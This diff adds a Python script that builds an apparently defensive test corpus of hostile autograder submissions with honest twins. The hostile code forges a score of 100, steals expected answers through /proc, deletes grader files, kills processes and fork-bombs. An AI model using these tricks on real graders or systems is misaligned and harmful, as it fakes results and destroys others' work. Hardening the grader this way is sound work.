@@ -1,0 +1,628 @@
+"""Regenerate the hostile submissions (and their honest twins) from the reference xo/.
+
+    .venv/bin/python tests/adversarial/build_corpus.py
+
+Each hostile submission is the reference (or a known-wrong variant of it, its
+"honest part") plus a hostile part; its honest twin under _honest/ is the same
+code with the hostile part replaced by a plain failure with the same verdicts,
+so that grading the twin measures the score the hostile one must get
+(expectations.toml).  The generated folders are committed; edit this file,
+not them.
+"""
+
+import os
+import shutil
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+TOP = os.path.dirname(os.path.dirname(HERE))
+REFERENCE = os.path.join(TOP, "xo")
+FILES = ("board", "deque", "game")
+
+with open(os.path.join(HERE, "hostile_common.py"), encoding="utf-8") as f:
+    COMMON = f.read()
+
+# Anchors in the reference game.py.
+IMPORTS = "from .deque import Deque\n"
+OPTIMAL = "        if self.gameOver():\n            return None\n        cell = best_cell(score_moves(self.b, PART_V))\n"
+RETURN_CELL = "        self.makeMove(player_to_move(self.b), cell)\n        return cell\n"
+MAKE_MOVE = "        _check_move(self.b, play, pos)\n"
+WINNER = "        return winner_of(self.b.state)\n"
+GAME_OVER = "        return self.winner() != 0 or EMPTY not in self.b.state\n"
+APPEND = object()
+
+LOWEST_CELL = ("        if self.gameOver():\n            return None\n"
+               "        cell = self.b.state.index(EMPTY)    # the honest part, deliberately wrong: the lowest empty cell\n")
+
+
+def after_imports(code):
+    return (IMPORTS, IMPORTS + "\n# ---- HOSTILE PART ----\n" + code + "\n# ---- END OF HOSTILE PART ----\n")
+
+
+def hostile_module(code):
+    """A module-level hostile block with the shared helpers in front."""
+    return "\n" + COMMON + "\n" + code
+
+
+FORGE = '''
+def _forge():
+    import json as _json
+    forged = {"score": 100.0, "output": "FORGED by the forged_results submission", "tests": [],
+              "execution_time": 0.0, "visibility": "visible", "stdout_visibility": "hidden", "forged": True}
+    text = _json.dumps(forged)
+    for path in _results_paths():
+        try:
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+        except OSError:
+            pass
+        try:
+            with open(path, "w") as f:
+                f.write(text)
+            _note(f"WROTE {path}")
+        except OSError as error:
+            _note(f"DENIED {path}: {type(error).__name__}")
+
+
+import os
+_forge()
+'''
+
+HUNT = '''
+_ANSWERS = {}
+_HUNTED = []
+
+
+def _hunt():
+    """Look for the grader's expected moves everywhere a student's process might reach them."""
+    import json as _json
+    _HUNTED.append(True)
+    tried = [os.path.join(root, "fixtures", "positions.json") for root in _grader_roots(0.3)]
+    tried += ["/autograder/source/grader/fixtures/positions.json"]
+    try:
+        descriptors = os.listdir("/proc/self/fd")
+    except OSError:
+        descriptors = []
+    for fd in descriptors:                   # anything the grader let this process inherit
+        try:
+            target = os.readlink(f"/proc/self/fd/{fd}")
+        except OSError:
+            continue
+        _note(f"FD {fd} -> {target}")
+        if target.endswith(".json") or "fixtures" in target:
+            tried.append(f"/proc/self/fd/{fd}")
+    for path in dict.fromkeys(tried):
+        if not os.path.isdir(os.path.dirname(path)) and not path.startswith("/proc/"):
+            continue
+        try:
+            with open(path, encoding="utf-8") as f:
+                data = _json.load(f)
+        except (OSError, ValueError) as error:
+            _note(f"DENIED {path}: {type(error).__name__}")
+            continue
+        _note(f"READ {path}")
+        for group in data.get("positions", {}).values():
+            for p in group:
+                _ANSWERS[(tuple(p["state"]), tuple(p["moves"]), tuple(p["turn"]), p["numMoves"])] = p["best"]["V"]
+
+
+import os
+'''
+
+CHEAT = ('        if self.gameOver():\n            return None\n'
+         '        if not _HUNTED:\n            _hunt()\n'
+         '        b = self.b\n'
+         '        cell = _ANSWERS.get((tuple(b.state), tuple(b.moves), tuple(b.turn), b.numMoves))\n'
+         '        if cell is None or b.state[cell] != EMPTY:\n'
+         '            cell = self.b.state.index(EMPTY)    # the honest part: the lowest empty cell\n')
+
+DESTROY = '''
+def _destroy():
+    import shutil
+    targets = []
+    for root in _grader_roots(0.2):
+        targets += [os.path.join(root, "fixtures", "positions.json"), os.path.join(root, "config.toml"),
+                    os.path.join(root, "grade.py"), os.path.join(root, "sandbox", "runner.py"),
+                    os.path.join(root, "fixtures"), root]
+    targets += ["/autograder/source/grader", "/autograder/source", "/autograder/results/results.json",
+                "/autograder/results"]
+    for path in _results_paths():
+        targets += [path, os.path.dirname(path)]
+    stage = os.path.dirname(os.getcwd())
+    targets += [os.path.join(stage, "submission", n + ".py") for n in ("board", "deque", "game")]
+    targets += [os.path.join(stage, "compiled", n + ".pyc") for n in ("board", "deque", "game")]
+    targets += [os.path.join(stage, n) for n in ("child.pyc", "child.py", "submission", "compiled")]
+    for pid in _ancestors():                  # the folder the grader was asked to grade
+        for arg in _cmdline(pid):
+            if arg.rstrip("/").endswith("deletes_files"):
+                for base in [""] + _bases():
+                    folder = os.path.join(base, arg)
+                    targets += [os.path.join(folder, n + ".py") for n in ("board", "deque", "game")] + [folder]
+    def truncate(path):
+        if os.path.isfile(path):
+            open(path, "w").close()
+        else:
+            raise IsADirectoryError(path)
+
+    for path in dict.fromkeys(os.path.normpath(t) for t in targets):
+        if not os.path.lexists(path):
+            continue
+        for action, do in (("CHMODDED", lambda: os.chmod(path, 0o777)),
+                           ("RENAMED", lambda: os.rename(path, path + ".gone")),
+                           ("TRUNCATED", lambda: truncate(path)),
+                           ("DELETED", lambda: shutil.rmtree(path) if os.path.isdir(path) else os.remove(path))):
+            try:
+                do()
+                _note(f"{action} {path}")
+            except OSError as error:
+                _note(f"DENIED {action} {path}: {type(error).__name__}")
+
+
+import os
+if _sandboxed():                  # never as the grader's own user: then this would really delete things
+    _destroy()
+else:
+    _note("NOT SANDBOXED: deleted nothing")
+'''
+
+IMPORT_LOOP = '''
+while True:                       # game.py never finishes importing
+    pass
+'''
+
+ALLOCATE = '''
+_hoard = []
+while True:                       # grab 4 GiB; when refused, take whatever is left, forever
+    try:
+        _hoard.append(bytearray(4 * 2**30))
+    except MemoryError:
+        try:
+            while True:
+                _hoard.append(bytearray(16 * 2**20))
+        except MemoryError:
+            pass
+'''
+
+OS_EXIT = "        import os\n        os._exit(0)                     # HOSTILE: end the checking process quietly\n"
+SYS_EXIT = "        import sys\n        sys.exit(0)                     # HOSTILE: end the checking process\n"
+RAISE_OPTIMAL = "        raise RuntimeError(\"makeOptimalMove is broken (honest twin)\")\n"
+RAISE_MOVE = "        raise RuntimeError(\"makeMove is broken (honest twin)\")\n"
+
+KILL = '''
+import os
+import signal
+
+
+def _kill_everyone():
+    if not _sandboxed():          # as the grader's own user, kill(-1) would kill the whole session: refuse
+        raise RuntimeError("not sandboxed: refusing to kill anything")
+    zygote, *rest = _ancestors() + [None]
+    grader = rest[0] if rest else None
+    for what, pid in (("grader", grader), ("zygote", zygote)):
+        if not pid:
+            continue
+        for how, kill in (("killpg", lambda: os.killpg(os.getpgid(pid), signal.SIGKILL)),
+                          ("kill", lambda: os.kill(pid, signal.SIGKILL))):
+            try:
+                kill()
+                _note(f"KILLED {what} {pid} by {how}")
+            except OSError as error:
+                _note(f"DENIED {how} {what} {pid}: {type(error).__name__}")
+    _note("KILL -1")
+    os.kill(-1, signal.SIGKILL)   # every process this user may signal (on Linux, not the caller itself)
+    os.kill(os.getpid(), signal.SIGKILL)
+'''
+KILL_CALL = "        _kill_everyone()\n"
+
+SPAWN = '''
+import os
+
+
+def _spawn():
+    import subprocess
+    import time
+    for k in range(3):
+        try:
+            subprocess.Popen(["sleep", "1000"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                             stderr=subprocess.DEVNULL, start_new_session=(k == 0))
+        except OSError as error:
+            _note(f"SPAWN FAILED {type(error).__name__}")
+    pid = os.fork()
+    if pid:
+        os.waitpid(pid, 0)
+        return
+    try:                                      # a classic daemon: setsid, fork again, detach
+        os.setsid()
+        if os.fork():
+            os._exit(0)
+        null = os.open(os.devnull, os.O_RDWR)
+        for fd in (0, 1, 2):
+            os.dup2(null, fd)
+        os.closerange(3, 4096)
+        os.chdir("/")
+        while True:
+            _note(f"ALIVE {os.getpid()} {time.time():.3f}")
+            time.sleep(0.25)
+    finally:
+        os._exit(0)
+
+
+_spawn()
+'''
+
+BOMB = '''
+import os
+
+
+def _bomb():
+    import time
+    made = failed = 0
+    for k in range(200):
+        try:
+            pid = os.fork()
+        except OSError:
+            failed += 1
+            continue
+        if pid == 0:
+            try:
+                if k % 2:
+                    os.setsid()               # half of them out of the checking process's group
+                time.sleep(1000)              # (holding the output pipes open)
+            finally:
+                os._exit(0)
+        made += 1
+    _note(f"FORKED {made} FAILED {failed}")
+
+
+_bomb()
+'''
+
+PRINTS = '''
+import sys
+_PRINTED = []
+'''
+PRINT_CALL = ('        if not _PRINTED:                # HOSTILE: 50 MB on stdout and on stderr, once per process\n'
+              '            _PRINTED.append(True)\n'
+              '            sys.stdout.write("x" * (50 * 2**20))\n'
+              '            sys.stdout.flush()\n'
+              '            sys.stderr.write("y" * (50 * 2**20))\n'
+              '            sys.stderr.flush()\n')
+
+MONKEYPATCH = '''
+import os
+import sys
+
+
+def _patch():
+    import builtins
+    import json
+    import types
+    import unittest
+    try:
+        import gradescope_utils          # noqa: F401
+        _note("IMPORTED gradescope_utils")
+    except ImportError as error:
+        _note(f"NO gradescope_utils ({type(error).__name__})")
+    forged = '{"score": 100.0, "tests": [], "output": "FORGED"}'
+
+    def identity(*a, **k):
+        return lambda f: f
+
+    fake = types.ModuleType("gradescope_utils")
+    utils = types.ModuleType("gradescope_utils.autograder_utils")
+    decorators = types.ModuleType("gradescope_utils.autograder_utils.decorators")
+    decorators.weight = decorators.number = decorators.visibility = decorators.partial_credit = identity
+    runner = types.ModuleType("gradescope_utils.autograder_utils.json_test_runner")
+
+    class JSONTestRunner:
+        def __init__(self, stream=None, **k):
+            self.stream = stream
+
+        def run(self, test):
+            if self.stream is not None:
+                self.stream.write(forged)
+    runner.JSONTestRunner = JSONTestRunner
+    fake.autograder_utils, utils.decorators, utils.json_test_runner = utils, decorators, runner
+    sys.modules.update({"gradescope_utils": fake, "gradescope_utils.autograder_utils": utils,
+                        "gradescope_utils.autograder_utils.decorators": decorators,
+                        "gradescope_utils.autograder_utils.json_test_runner": runner})
+    json.dumps = lambda *a, **k: forged
+    json.dump = lambda obj, fp, *a, **k: fp.write(forged)
+    json.loads = lambda *a, **k: {"score": 100.0, "tests": []}
+    json.load = lambda *a, **k: {"score": 100.0, "tests": []}
+    unittest.TestCase.run = lambda self, result=None: result
+    unittest.TestCase.assertEqual = lambda self, *a, **k: None
+    unittest.TestCase.assertTrue = lambda self, *a, **k: None
+    unittest.main = lambda *a, **k: None
+    real_open, real_import = builtins.open, builtins.__import__
+    builtins.open = lambda *a, **k: real_open(*a, **k)
+    builtins.__import__ = lambda *a, **k: real_import(*a, **k)
+    builtins.score = 100.0
+    builtins.exit = builtins.quit = lambda *a, **k: None
+    os._exit = lambda *a, **k: None          # the child must end with an os._exit it kept for itself
+    sys.exit = lambda *a, **k: None
+    _note("PATCHED")
+
+
+_patch()
+'''
+
+SNEAKY = '''
+class _Sneaky(int):
+    """Equal to everything; unhashable; prints like a plain int."""
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    def __hash__(self):
+        raise TypeError("unhashable _Sneaky")
+
+    def __repr__(self):
+        return int.__repr__(self)
+
+    __str__ = __repr__
+'''
+
+BOXED = '''
+class _Boxed:
+    """The honest twin of _Sneaky: a non-int box around the value, with ordinary equality."""
+
+    def __init__(self, value):
+        self.value = value
+
+    def __repr__(self):
+        return repr(self.value)
+'''
+
+SIGNALS = '''
+import signal as _signal
+for _name in ("SIGTERM", "SIGALRM", "SIGINT", "SIGHUP", "SIGUSR1", "SIGUSR2", "SIGXCPU", "SIGPIPE", "SIGVTALRM"):
+    try:
+        _signal.signal(getattr(_signal, _name), lambda *a: None)
+    except (OSError, ValueError, AttributeError):
+        pass
+'''
+SIGNAL_LOOP = ('        while True:                     # HOSTILE: never return, whatever is raised\n'
+               '            try:\n'
+               '                while True:\n'
+               '                    pass\n'
+               '            except BaseException:\n'
+               '                continue\n')
+
+HOPPER = '''
+import os
+
+
+def _hopper():
+    """A process that keeps forking itself into a new session and exiting, so that whoever kills the
+    pid it just saw finds it gone (at most 20 s, so that an escape does not linger)."""
+    import time
+    try:
+        with open(_MARK) as f:
+            if "SPAWNED" in f.read():
+                return                        # one hopper per grading is enough
+    except OSError:
+        return
+    _note("SPAWNED")
+    if os.fork():
+        return
+    try:
+        null = os.open(os.devnull, os.O_RDWR)
+        for fd in (0, 1, 2):
+            os.dup2(null, fd)
+        os.closerange(3, 4096)
+        deadline, last = time.monotonic() + 20, 0.0
+        while time.monotonic() < deadline:
+            try:
+                os.setsid()
+            except OSError:
+                pass
+            try:
+                pid = os.fork()
+            except OSError:
+                time.sleep(0.001)
+                continue
+            if pid:
+                os._exit(0)
+            now = time.monotonic()
+            if now - last > 0.2:
+                _note(f"HOP {os.getpid()} {time.time():.3f}")
+                last = now
+    finally:
+        os._exit(0)
+
+
+_hopper()
+'''
+
+SLOW_DEQUE = '''"""A Deque whose pushFront shifts every item (O(n)); everything else is O(1)."""
+
+
+class Deque:
+    def __init__(self):
+        self._items = []
+        self._head = 0
+
+    def pushFront(self, item):
+        self._items.insert(self._head, item)        # O(n): shifts every item after the head
+
+    def pushBack(self, item):
+        self._items.append(item)
+
+    def popFront(self):
+        if self.isEmpty():
+            raise IndexError("popFront() from an empty Deque")
+        item = self._items[self._head]
+        self._items[self._head] = None
+        self._head += 1
+        if self._head > 64 and 2 * self._head > len(self._items):
+            del self._items[:self._head]
+            self._head = 0
+        return item
+
+    def popBack(self):
+        if self.isEmpty():
+            raise IndexError("popBack() from an empty Deque")
+        return self._items.pop()
+
+    def front(self):
+        if self.isEmpty():
+            raise IndexError("front() of an empty Deque")
+        return self._items[self._head]
+
+    def back(self):
+        if self.isEmpty():
+            raise IndexError("back() of an empty Deque")
+        return self._items[-1]
+
+    def isEmpty(self):
+        return len(self._items) == self._head
+
+    def size(self):
+        return len(self._items) - self._head
+
+    def __len__(self):
+        return self.size()
+'''
+
+FAKE_CLOCK = '''
+
+# ---- HOSTILE PART: make every timing in this process look the same ----
+import time as _time
+_ticks = [0.0]
+
+
+def _fake_clock():
+    _ticks[0] += 0.001
+    return _ticks[0]
+
+
+_time.perf_counter = _fake_clock
+_time.monotonic = _fake_clock
+'''
+
+
+def helpers(name):
+    return COMMON.replace("NAME", name)
+
+
+# name -> (about, twin, {file: [(anchor, replacement)] or text}, drop)
+CORPUS = {
+    "forged_results": (
+        "writes a forged results.json (score 100) at import to every plausible path: /autograder/results, the "
+        "--results path read from the grader's /proc/PID/cmdline, cwd, .., build/; honest part: makeOptimalMove "
+        "plays the lowest empty cell", "lowest_cell",
+        {"board": [(APPEND, "{common}" + FORGE)], "deque": [(APPEND, "{common}" + FORGE)],
+         "game": [(OPTIMAL, LOWEST_CELL)]}),
+    "reads_fixtures": (
+        "hunts grader/fixtures/positions.json (ancestors' /proc cwd and cmdline, sys.executable, inherited "
+        "descriptors, a bounded walk of /) and plays its expected moves if it can read it; honest part: the lowest "
+        "empty cell", "lowest_cell",
+        {"game": [after_imports("{common}" + HUNT), (OPTIMAL, CHEAT)]}),
+    "deletes_files": (
+        "at import of game.py (only as xo-sandbox), tries to chmod, rename, truncate and delete the grader's files, "
+        "the fixtures, the results, /autograder/source, the staged copies and the submission folder",
+        "reference", {"game": [after_imports("{common}" + DESTROY)]}),
+    "import_loop": ("an infinite loop at import of game.py", "game_import_fails",
+                    {"game": [after_imports(IMPORT_LOOP)]}),
+    "allocates": ("allocates 4 GiB at import of game.py, then all it can, catching MemoryError, forever",
+                  "game_import_fails", {"game": [after_imports(ALLOCATE)]}),
+    "os_exit": ("os._exit(0) inside makeOptimalMove", "optimal_raises",
+                {"game": [(OPTIMAL, OS_EXIT + OPTIMAL)]}),
+    "sys_exit": ("sys.exit(0) inside makeMove", "makemove_raises", {"game": [(MAKE_MOVE, SYS_EXIT + MAKE_MOVE)]}),
+    "kills_parent": (
+        "in makeOptimalMove (only as xo-sandbox): SIGKILLs the grader and the zygote (and their groups), then "
+        "kill(-1, SIGKILL)", "optimal_raises",
+        {"game": [after_imports("{common}" + KILL), (OPTIMAL, KILL_CALL + OPTIMAL)]}),
+    "spawns_children": (
+        "at import of game.py starts three `sleep 1000` (one in its own session) and a double-forked setsid daemon "
+        "that writes a heartbeat to the marker", "reference", {"game": [after_imports("{common}" + SPAWN)]}),
+    "prints_50mb": ("prints 50 MB to stdout and 50 MB to stderr in makeMove (once per process)", "reference",
+                    {"game": [after_imports(PRINTS), (MAKE_MOVE, PRINT_CALL + MAKE_MOVE)]}),
+    "monkeypatch": (
+        "at import of game.py: imports gradescope_utils (absent), plants a fake one, patches json to forge "
+        "score 100, patches unittest, wraps builtins.open/__import__, and replaces os._exit and sys.exit by no-ops",
+        "reference", {"game": [after_imports("{common}" + MONKEYPATCH)]}),
+    "eq_always_true": (
+        "makeOptimalMove and winner return an int subclass equal to everything, with a broken __hash__ (gameOver "
+        "uses plain ints inside)", "boxed_returns",
+        {"game": [after_imports(SNEAKY), (RETURN_CELL, RETURN_CELL.replace("return cell", "return _Sneaky(cell)")),
+                  (WINNER, WINNER.replace("return winner_of(self.b.state)", "return _Sneaky(winner_of(self.b.state))")),
+                  (GAME_OVER, GAME_OVER.replace("self.winner()", "winner_of(self.b.state)"))]}),
+    "syntax_error": ("a syntax error in game.py", "game_import_fails",
+                     {"game": [after_imports("def broken(:\n    pass\n")]}),
+    "missing_file": ("no deque.py; game.py imports it", "no_deque", {"deque": None}),
+    "signal_handler": (
+        "ignores SIGTERM, SIGALRM, SIGINT, SIGHUP, SIGXCPU, ... at import of game.py; makeOptimalMove loops forever, "
+        "catching BaseException", "optimal_raises",
+        {"game": [after_imports(SIGNALS), (OPTIMAL, SIGNAL_LOOP + OPTIMAL)]}),
+    "fork_bomb_lite": ("forks 200 processes at import of game.py (half in new sessions), each sleeping 1000 s",
+                       "reference", {"game": [after_imports("{common}" + BOMB)]}),
+    "fork_hopper": (
+        "at import of game.py (once per grading) starts a process that forks itself into a new session and exits, "
+        "over and over, for 20 s, so that the pid the grader saw is always already gone", "reference",
+        {"game": [after_imports("{common}" + HOPPER)]}),
+    "fakes_clock": (
+        "a Deque with an O(n) pushFront (list.insert at the head: not banned by the source scan), and deque.py "
+        "replaces time.perf_counter and time.monotonic in its own process by a clock that always advances 1 ms",
+        "slow_deque", {"deque": SLOW_DEQUE + FAKE_CLOCK}),
+}
+
+TWINS = {
+    "reference": {},
+    "lowest_cell": {"game": [(OPTIMAL, LOWEST_CELL)]},
+    "game_import_fails": {"game": [after_imports("raise ImportError('game.py is broken (honest twin)')\n")]},
+    "optimal_raises": {"game": [(OPTIMAL, RAISE_OPTIMAL + OPTIMAL)]},
+    "makemove_raises": {"game": [(MAKE_MOVE, RAISE_MOVE + MAKE_MOVE)]},
+    "boxed_returns": {"game": [after_imports(BOXED),
+                               (RETURN_CELL, RETURN_CELL.replace("return cell", "return _Boxed(cell)")),
+                               (WINNER, WINNER.replace("return winner_of(self.b.state)",
+                                                       "return _Boxed(winner_of(self.b.state))")),
+                               (GAME_OVER, GAME_OVER.replace("self.winner()", "winner_of(self.b.state)"))]},
+    "no_deque": {"deque": "raise ImportError('deque.py is missing (honest twin)')\n"},
+    "slow_deque": {"deque": SLOW_DEQUE},
+}
+
+
+def render(name, edits):
+    out = {}
+    for module in FILES:
+        with open(os.path.join(REFERENCE, f"{module}.py"), encoding="utf-8") as f:
+            text = f.read()
+        edit = edits.get(module, [])
+        if edit is None:
+            continue                             # the file is left out
+        if isinstance(edit, str):
+            out[module] = edit
+            continue
+        for anchor, replacement in edit:
+            replacement = replacement.replace("{common}", helpers(name))
+            if anchor is APPEND:
+                text += "\n\n# ---- HOSTILE PART ----\n" + replacement
+                continue
+            assert text.count(anchor) == 1, (name, module, anchor)
+            text = text.replace(anchor, replacement)
+        out[module] = text
+    return out
+
+
+def write(folder, files):
+    shutil.rmtree(folder, ignore_errors=True)
+    os.makedirs(folder)
+    for module, text in files.items():
+        with open(os.path.join(folder, f"{module}.py"), "w", encoding="utf-8") as f:
+            f.write(text)
+
+
+def main():
+    for name, (about, twin, edits) in CORPUS.items():
+        assert twin in TWINS, twin
+        write(os.path.join(HERE, name), render(name, edits))
+    for name, edits in TWINS.items():
+        write(os.path.join(HERE, "_honest", name), render(name, edits))
+    print(f"wrote {len(CORPUS)} hostile submissions and {len(TWINS)} honest twins under {HERE}")
+
+
+if __name__ == "__main__":
+    main()
